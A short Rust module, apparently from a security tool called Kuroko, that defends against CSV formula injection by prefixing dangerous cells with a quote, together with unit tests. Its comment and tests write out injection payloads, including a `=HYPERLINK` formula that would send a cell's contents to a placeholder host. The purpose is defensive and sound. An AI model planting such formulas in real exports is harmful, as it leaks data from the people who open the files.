//! The one rule for CSV cells that came off the wire.
//!
//! A spreadsheet opening a CSV runs any cell that starts with `=`, `+`, `-` or `@` (or a
//! tab or CR before one of them) as a formula: a Host header `=HYPERLINK("http://x/?"&A1)`
//! would run on the consultant's laptop. Every CSV Kuroko writes (`search --format csv`,
//! `findings --format csv`, the bundle's CSVs) passes its cells through [`defuse`], which
//! prefixes such a cell with `'` (shown as text, the value itself unchanged after it).

use std::borrow::Cow;

/// `s`, with a `'` in front when a spreadsheet would read it as a formula.
pub fn defuse(s: &str) -> Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n') => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

#[cfg(test)]
mod tests {
    use super::defuse;

    #[test]
    fn formulas_become_text_and_the_rest_is_untouched() {
        for f in [
            "=HYPERLINK(\"http://x\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(defuse(f), format!("'{f}"));
        }
        for s in ["", "10.0.0.1", "www.example.com", "a=b", "GET"] {
            assert_eq!(defuse(s), s);
        }
    }
}
